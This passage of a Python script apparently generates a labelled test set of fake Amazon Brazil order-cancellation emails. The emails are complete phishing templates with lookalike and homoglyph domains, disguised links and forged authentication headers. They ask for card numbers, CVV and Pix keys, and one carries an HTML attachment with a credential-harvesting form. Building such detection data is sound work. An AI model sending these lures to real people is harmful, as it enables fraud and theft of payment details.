      text="Olá,\n\nSeu pedido foi cancelado porque o pagamento foi recusado. Para reativar, responda este e-mail com nome do titular, número do cartão, validade e código de segurança (CVV).\n\nAtenciosamente,\nAmazon Pagamentos\n",
      cte="quoted-printable", charset="iso-8859-1")
    o = order_no()
    L(cause="payment_issue", states_reason=True, note="texto do link mostra amazon.com.br, href para outro domínio; domínio amazon.com.br.pedido-cancelado.shop",
      from_=("Amazon.com.br", "pedidos@amazon.com.br.pedido-cancelado.shop"), to=("Rafael Lima", "rafael.lima@bol.com.br"),
      subject="Seu pedido da Amazon.com.br nº %s foi cancelado" % o,
      auth="mx.bol.com.br; dkim=pass header.d=pedido-cancelado.shop; spf=pass smtp.mailfrom=pedido-cancelado.shop; dmarc=none header.from=amazon.com.br.pedido-cancelado.shop",
      html=amz_html(D_BR, N_BR, "Pedido cancelado", o, "Pedido nº", ["Olá, Rafael,", "O pagamento não foi aprovado e seu pedido foi cancelado. Atualize seu cartão em " + a("http://br-atualizacao-cartao.top/wallet", "https://www.amazon.com.br/cpe/yourpayments/wallet") + " para reativá-lo."],
                    [("Smart TV LG 50\" 4K UHD ThinQ AI", "Vendido por: Amazon.com.br", "Quantidade: 1", "R$ 2.399,00")], "Itens cancelados", footer=[_h.escape(x) for x in foot_pt()], link=lambda u, r: "http://br-atualizacao-cartao.top/c?" + r),
      cte="base64")
    L(cause="inventory_shortage", states_reason=True, note="domínio amaz0n, nº de pedido malformado, pede chave Pix/dados bancários",
      from_=("Amazon Reembolso", "reembolso@amaz0n-br.com"), to=("", "anabia.souza@uol.com.br"),
      subject="Pedido #BR-5531-0092 cancelado - produto esgotado",
      html=simple_html("<p>Olá,</p><p>O produto do seu pedido <b>#BR-5531-0092</b> esgotou e o pedido foi cancelado.</p><p>Para receber o reembolso de R$ 459,00, informe sua chave Pix e os dados do cartão: <a href='http://amaz0n-br.com/reembolso'>Receber reembolso</a></p>", "pt-BR"),
      cte="quoted-printable")
    L(cause="technical_issue", states_reason=True, note="'será cancelado' a menos que aja em 24 h; yahoo",
      from_=("Suporte Amazon", "suporte.amazon.pedidos@yahoo.com.br"), to=("", "rafael.lima@bol.com.br"),
      subject="Urgente: seu pedido será cancelado em 24 horas",
      text="Prezado cliente,\n\nDevido a uma falha no sistema, seu pedido será cancelado em 24 horas caso não confirme seus dados.\nConfirme aqui: http://encurtador.com.br/amzconf\n\nEquipe Amazon\n",
      cte="8bit")
    L(cause="customer_request", states_reason=True, note="nome com grego, amazon-orders.help, sem nº de pedido",
      from_=("\u0391maz\u03bfn Brasil", "atendimento@amazon-orders.help"), to=("", "fe.costa.rj@gmail.com"),
      subject="Recebemos sua solicitação de cancelamento",
      html=simple_html("<p>Olá,</p><p>Recebemos sua solicitação de cancelamento do pedido. Se não foi você, interrompa o cancelamento:</p><p><a href='https://amazon-orders.help/br/parar'>https://www.amazon.com.br/gp/css/order-history</a></p>", "pt-BR"),
      cte="base64")
    L(cause="unknown", states_reason=False, note="domínio amazon.com.br.clientes-suporte.xyz, anexo HTML, sem motivo",
      from_=("Amazon", "noreply@amazon.com.br.clientes-suporte.xyz"), to=("", "anabia.souza@uol.com.br"),
      subject="Pedido cancelado",
      text="Seu pedido foi cancelado. Veja o arquivo anexo para detalhes e reembolso.\n\nAmazon\n",
      attach=[("Comprovante_Cancelamento.html", "text/html", "<html><body><form action='http://clientes-suporte.xyz/c.php'>E-mail <input name=u> Senha <input type=password name=p> Cartão <input name=c> <button>Enviar</button></form></body></html>")],
      cte="quoted-printable")
    return R

# =============================================================== main
def main():
    allm = fr_notices() + fr_others() + es_all() + pt_all()
    # interleave deterministically so kinds are not grouped
    random.shuffle(allm)
    os.makedirs(os.path.join(OUT, "mail"), exist_ok=True)
    labels = []
    for i, m in enumerate(allm, 1):
        fn = "t2%03d.eml" % i
        spec = dict(m)
        spec["from"] = spec.pop("from_")
        if spec["from"][1].split("@")[1].startswith("amazon.") and spec["from"][1].split("@")[1] in ("amazon.fr", "amazon.ca", "amazon.com.be", "amazon.es", "amazon.com.mx", "amazon.com.br"):
            spec.setdefault("msgid", amz_msgid())
            spec.setdefault("extra", [("X-AMAZON-MAIL-RELAY-TYPE", "notification"), ("Feedback-ID", "1.eu-west-1.%s:AmazonSES" % "".join(random.choice("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789") for _ in range(43)))])
        with open(os.path.join(OUT, "mail", fn), "wb") as f:
            f.write(build(spec))
        labels.append({"file": fn, "kind": m["kind"], "language": m["lang"], "cause": m["cause"],
                       "states_reason": m["states_reason"], "marketplace": m["marketplace"], "note": m["note"]})
    with open(os.path.join(OUT, "labels.json"), "w", encoding="utf-8") as f:
        json.dump(labels, f, ensure_ascii=False, indent=1)
    print(len(labels), "mails written")

if __name__ == "__main__":
    main()
